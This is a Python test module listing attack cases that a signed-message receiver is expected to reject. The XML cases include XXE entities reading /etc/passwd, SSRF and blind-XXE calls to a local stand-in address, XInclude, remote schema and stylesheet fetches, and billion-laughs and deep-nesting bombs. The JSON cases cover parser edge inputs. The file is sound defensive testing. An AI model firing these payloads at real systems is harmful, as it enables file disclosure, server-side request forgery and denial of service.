"""Attacks in the content of a message: signed and sealed as it should be, and hostile to whoever parses it.

Such a message was opened, so it is kept as evidence and answered with a receipt; a refusing acknowledgement says why,
and nothing of it reaches a consumer.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tests.attacks.table.attacker import MARK, Attacker
from tests.attacks.table.row import MESSAGE_REJECTED, Attack
from tests.attacks.table.wire import Shot
from tests.world.partner import note

Shoot = Callable[[Attacker], Shot]

NAMESPACE = b' xmlns="urn:world:xx:note:1"'
REMARK = b"<Note" + NAMESPACE + b"><Number>N-1</Number><Kind>%s</Kind></Note>"


def xml(name: str, source: str, content: bytes, code: str, *words: str, **more: Any) -> Attack:
    return _content("xml", name, source, content, "application/xml", code, *words, **more)


def in_json(name: str, source: str, content: bytes, code: str, *words: str, **more: Any) -> Attack:
    return _content("json", name, source, content, "application/json", code, *words, **more)


def _content(
    kind: str, name: str, source: str, content: bytes, media_type: str, code: str, *words: str, **more: Any
) -> Attack:
    return Attack(
        name=f"{kind}: {name}",
        kind=kind,
        source=source,
        shoot=lambda attacker: attacker.message(attacker.sealed(content, cty=media_type)),
        status=202,
        code=code,
        tag=MESSAGE_REJECTED,
        words=words,
        stored=True,
        **more,
    )


def signed(name: str, source: str, code: str, *words: str, **members: Any) -> Attack:
    """Metadata that is signed and well-formed, and that no agreement permits."""
    return Attack(
        name=f"agreement: {name}",
        kind="agreement",
        source=source,
        shoot=lambda attacker: attacker.with_inner(**members),
        status=202,
        code=code,
        tag=MESSAGE_REJECTED,
        words=words,
        stored=True,
    )


def laughs(levels: int) -> bytes:
    """Entities that double ten times at each level."""
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, levels)
    )
    return b"<!DOCTYPE Note [" + entities + b"]>" + REMARK % (b"&a%d;" % (levels - 1))


SHORT = b"<Note" + NAMESPACE + b"><Number>N-1</Number><Remark>%s</Remark></Note>"
"""A remark has 20 characters at most: each half of a split one would do, the whole does not."""
HALF = b"a" * 12
SWITCHED = (
    b'<Note xmlns="urn:world:xx:note:1" xmlns:s="http://www.w3.org/2001/XMLSchema-instance">'
    b'<Number s:type="anyType"><Evil/></Number></Note>'
)
EXTERNAL = b'<!DOCTYPE Note [<!ENTITY a SYSTEM "%s">]>' + REMARK % b"&a;"
XINCLUDE = (
    b'<Note xmlns="urn:world:xx:note:1" xmlns:i="http://www.w3.org/2001/XInclude">'
    b'<i:include href="%s" parse="text"/></Note>'
)
HINT = (
    b'<Note xmlns="urn:world:xx:note:1" xmlns:s="http://www.w3.org/2001/XMLSchema-instance"'
    b' s:schemaLocation="urn:world:xx:note:1 http://127.0.0.1:9/evil.xsd"><Number>N-1</Number><Evil/></Note>'
)
XML = [
    xml("a DOCTYPE", "OWASP XXE", b"<!DOCTYPE Note>" + note(), "parse.doctype", "DTD"),
    xml(
        "a DOCTYPE in UTF-16",
        "OWASP XXE",
        (b"<!DOCTYPE Note>" + note()).decode().encode("utf-16"),
        "parse.doctype",
        "UTF-16 DOCTYPE",
    ),
    xml(
        "an entity in the document",
        "CWE-827",
        b'<!DOCTYPE Note [<!ENTITY a "b">]>' + REMARK % b"&a;",
        "parse.doctype",
        "entity",
    ),
    xml("an entity that reads a file", "CWE-611", EXTERNAL % b"file:///etc/passwd", "parse.doctype", "entity"),
    xml("an entity that calls an address", "CWE-611, SSRF", EXTERNAL % b"http://127.0.0.1:9/evil", "parse.doctype"),
    xml(
        "a parameter entity",
        "CWE-611, blind XXE",
        b'<!DOCTYPE Note [<!ENTITY %% a SYSTEM "http://127.0.0.1:9/evil"> %%a;]>' % () + note(),
        "parse.doctype",
    ),
    xml(
        "a DTD elsewhere",
        "CVE-2026-41066 kin",
        b'<!DOCTYPE Note SYSTEM "http://127.0.0.1:9/evil.dtd">' + note(),
        "parse.doctype",
    ),
    xml("a billion laughs", "CVE-2003-1564", laughs(10), "parse.doctype", "deep XML"),
    xml("an entity that is not declared", "CWE-827", REMARK % b"&a;", "parse.entity"),
    xml("XInclude of a file", "CWE-98", XINCLUDE % b"/etc/passwd", "schema.unknown-element", "XInclude"),
    xml("a hint to another schema", "CWE-918", HINT, "schema.unknown-element", "schemaLocation"),
    xml(
        "300 levels",
        "CWE-674",
        b"<Note" + NAMESPACE + b">" + b"<a>" * 300 + b"</a>" * 300 + b"</Note>",
        "parse.too-deep",
        "deep XML",
    ),
    xml(
        "2,000 attributes",
        "CWE-770",
        b"<Note" + NAMESPACE + b"".join(b' a%d="1"' % n for n in range(2000)) + b"/>",
        "schema.attribute-unknown",
        "wide XML",
    ),
    xml(
        "5,000 elements that nobody knows",
        "CWE-770",
        b"<Note" + NAMESPACE + b">" + b"<a/>" * 5000 + b"</Note>",
        "schema.unknown-element",
        "wide XML",
    ),
    xml("two roots", "XML 1.0 s. 2.1", note() + note(), "parse.not-well-formed"),
    xml(
        "a value split by a comment",
        "CVE-2018-0489, SAML comments",
        SHORT % (HALF + b"<!-- -->" + HALF),
        "schema.facet",
    ),
    xml("a value split by an instruction", "CVE-2018-0489 kin", SHORT % (HALF + b"<?a?>" + HALF), "schema.facet"),
    xml(
        "a stylesheet that fetches",
        "CWE-98",
        b'<?xml-stylesheet href="http://127.0.0.1:9/evil.xsl"?><Evil/>',
        "schema.root",
    ),
    xml("the type of an element switched", "CWE-843", SWITCHED, "schema.retyped"),
    xml(
        "an element of 50,000 letters",
        "CWE-770",
        b"<Note" + NAMESPACE + b"><" + b"a" * 50_000 + b"/></Note>",
        "schema.unknown-element",
    ),
    xml(
        "an encoding that nobody knows",
        "CWE-116",
        b'<?xml version="1.0" encoding="x-evil"?>' + note(),
        "parse.encoding",
    ),
    xml("UTF-8 that is none", "RFC 3629 s. 10", REMARK % b"\xc0\xaf", "parse.encoding"),
    xml("a wrong value, to be repeated in the answer", "CWE-209", SHORT % (MARK.encode() * 2), "schema.facet"),
]
JSON = [
    in_json(
        "a member twice",
        "RFC 8259 s. 4, CVE-2017-12635",
        b'{"Note": {"Number": "N-1", "Number": "N-2"}}',
        "parse.duplicate-key",
        "JSON duplicate keys",
    ),
    in_json("NaN", "RFC 8259 s. 6", b'{"Note": {"Number": NaN}}', "parse.not-a-number", "NaN"),
    in_json("1e400", "RFC 8259 s. 6, CWE-1339", b'{"Note": {"Number": 1e400}}', "parse.exponent", "1e400"),
    in_json(
        "a number of 5,000 digits",
        "CVE-2020-10735",
        b'{"Note": {"Number": %s}}' % (b"9" * 5000),
        "parse.number-too-long",
    ),
    in_json("a lone surrogate", "RFC 8259 s. 8.2", b'{"Note": {"Number": "\\ud800"}}', "parse.surrogate", "surrogates"),
    in_json(
        "a byte order mark",
        "RFC 8259 s. 8.1",
        b'\xef\xbb\xbf{"Note": {"Number": "N-1"}}',
        "parse.byte-order-mark",
        "BOM",
    ),
    in_json("UTF-16", "RFC 8259 s. 8.1", '{"Note": {"Number": "N-1"}}'.encode("utf-16"), "parse.byte-order-mark"),
    in_json("40,000 open brackets", "CWE-674", b"[" * 40_000, "parse.too-deep", "deep JSON"),
    in_json(
        "a member named __proto__",
        "CWE-1321",
        b'{"Note": {"Number": "N-1", "__proto__": {}}}',
        "schema.unknown-element",
    ),
    in_json("two documents", "RFC 8259 s. 2", b'{"Note": {}} {"Note": {}}', "parse.not-well-formed"),
    in_json("a comment", "RFC 8259 s. 2", b'{"Note": {"Number": "N-1"}} // a', "parse.not-well-formed"),
]
AGREEMENT = [
    signed("an agreement that there is not", "CWE-639", "agreement.unknown", agreement="aa-xx-nothing"),
    signed("an agreement that has ended", "CWE-672", "agreement.expired", agreement="aa-xx-old", type="old-note"),
    signed("a type of the other direction", "CWE-863", "agreement.type-not-listed", type="reply"),
    signed("a purpose that is not agreed", "CWE-863", "agreement.purpose-not-listed", purpose="TAX"),
    signed("a format that is not agreed", "CWE-436", "schema.root", schema="note-1.0"),
]
ROWS = [*XML, *JSON, *AGREEMENT]
